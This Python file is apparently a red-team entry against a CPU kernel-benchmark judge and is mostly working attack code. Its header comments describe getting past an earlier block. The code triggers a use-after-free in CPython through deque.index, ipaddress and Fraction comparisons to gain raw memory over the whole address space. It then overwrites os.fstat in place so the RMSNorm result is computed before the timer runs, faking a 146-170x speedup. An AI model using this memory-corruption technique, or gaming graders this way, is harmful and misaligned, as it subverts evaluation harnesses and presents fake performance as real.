# Ninth session's red team (2026-12-07, CPU judge): passed strict at 146-170x at dc4d6af.
# Raw memory with no comparison method of the kernel's: deque.index compares a borrowed item whose
# __eq__ is the standard library's (ipaddress), which calls a property of the kernel's that empties
# the deque; the reflected fractions.Fraction.__eq__ then gets the freed item. Stopped by
# worker._hold_compared_items (the deque's items held for the call).
# Red team 9 (strict attempt): raw memory with no comparison hook defined (no __eq__/__lt__...):
# deque.index compares a borrowed item; the item's own __eq__ is ipaddress's _BaseAddress.__eq__
# (stdlib), whose `self._ip` is a property of ours that empties the deque, after which
# `other._ip` raises AttributeError and __eq__ returns NotImplemented; the item is freed as that
# frame exits, and the reflected Fraction.__eq__ runs on the freed item: `isinstance(b,
# numbers.Complex)` holds (registered) and `b.imag` is another property of ours, which runs with
# the freed object as self, takes its block with a bytearray laid out as a fake bytearray header
# over the whole address space, and keeps self. Then os.fstat (the worker's values._fstat, the
# same object) is found through os's namespace in raw memory and turned IN PLACE into a
# functools.partial (type pointer and fields copied): the worker's main thread calls it while
# opening each call's inputs, after the host wrote them and before the clock, and its hash
# hook (C callables only) computes the answer from views kept into the input arena.
import collections
import fractions
import functools
import ipaddress
import numbers
import operator
import os
import types

import torch

_st = {"stage": 0}
_N = 22
_BS = 32 + 8 * _N
_FAKE = (bytes(16) + (1 << 40).to_bytes(8, 'little') + id(bytearray).to_bytes(8, 'little')
         + (1 << 60).to_bytes(8, 'little') * 2 + bytes(24)).ljust(_BS + 16 - 1, b'\0')
_dq = collections.deque()


def _ip_get(self):
    if _st["stage"] == 1:
        _st["stage"] = 2
        _dq.clear()
    return 0


def _ip_set(self, value):
    pass


def _imag_get(self):
    if _st["stage"] == 2:
        _st["stage"] = 3
        hold = bytearray(_FAKE)
        _st["h"] = hold
        _st["w"] = self
    return 1


class IT(ipaddress.IPv4Address):
    __slots__ = tuple('s%d' % i for i in range(_N))
    _ip = property(_ip_get, _ip_set)
    imag = property(_imag_get)


numbers.Complex.register(IT)


def _rawmem():
    f = fractions.Fraction(1, 3)
    warm = IT(1)
    isinstance(warm, numbers.Rational), isinstance(warm, numbers.Complex), isinstance(warm, float)
    _dq.append(IT(1))
    _st["stage"] = 1
    try:
        _dq.index(f)
    except (RuntimeError, ValueError):
        pass
    m = _st.get("w")
    if type(m) is not bytearray:
        raise RuntimeError("no raw memory")
    return m


def _word(mem, addr):
    return int.from_bytes(mem[addr:addr + 8], 'little')


def _find_in_namespace(mem, module_addr, name):
    d = _word(mem, module_addr + 16)  # md_dict
    keys = _word(mem, d + 32)  # ma_keys
    log2_index_bytes = mem[keys + 9]
    kind = mem[keys + 10]
    nentries = _word(mem, keys + 24)
    entries = keys + 32 + (1 << log2_index_bytes)
    size = 16 if kind != 0 else 24
    want = name.encode()
    for i in range(nentries):
        e = entries + i * size
        k = _word(mem, e if kind != 0 else e + 8)
        v = _word(mem, e + 8 if kind != 0 else e + 16)
        if k and _word(mem, k + 16) == len(want) and bytes(mem[k + 48:k + 48 + len(want)]) == want:
            return v
    return 0


class _Ops:
    pass


class _K:
    pass


def _ops(x, r, w, out):
    s = torch.empty(x.shape, dtype=torch.float32)
    m = torch.empty((x.shape[0], 1), dtype=torch.float32)
    eps = torch.full((1, 1), 1e-5, dtype=torch.float32)
    return [
        functools.partial(s.copy_, x),
        functools.partial(s.add_, r),
        functools.partial(torch.linalg.vector_norm, s, 2, -1, True, out=m),
        functools.partial(torch.addcmul, eps, m, m, value=1.0 / x.shape[-1], out=m),
        functools.partial(m.rsqrt_),
        functools.partial(s.mul_, m),
        functools.partial(torch.mul, s, w, out=out),
    ]


_Ops.__iter__ = functools.partial(iter, ())
_K.__hash__ = functools.partial(operator.countOf, _Ops(), None)
_k = _K()
_fake = types.SimpleNamespace(st_dev=-7, st_ino=-7)
_keep = []
_mem = _rawmem()


def _morph():
    mem = _mem
    target = _find_in_namespace(mem, id(os), "fstat")
    if not target:
        raise RuntimeError("not found")
    p = functools.partial(dict.get, {_k: _fake}, _k)
    _keep.append(p)
    src = id(p)
    words = [mem[src + off:src + off + 8] for off in range(8, 64, 8)]
    for off, word in zip(range(8, 64, 8), words):
        mem[target + off:target + off + 8] = word


def _honest(x, residual, weight):
    s = x.float() + residual.float()
    inv = torch.rsqrt(s.pow(2).mean(-1, keepdim=True) + 1e-5)
    return (s * inv * weight.float()).to(x.dtype)


def solve(x, residual, weight):
    if _st.get("armed", 0) >= 2:
        return _st["nxt"]
    result = _honest(x, residual, weight)
    if _st.get("armed", 0) == 0:
        nxt = torch.empty_like(x)
        _st["nxt"] = nxt
        ops = _ops(x.view(x.shape), residual.view(residual.shape), weight.view(weight.shape), nxt)
        _Ops.__iter__ = functools.partial(map, operator.call, ops)
        _morph()
    _st["armed"] = _st.get("armed", 0) + 1
    return result
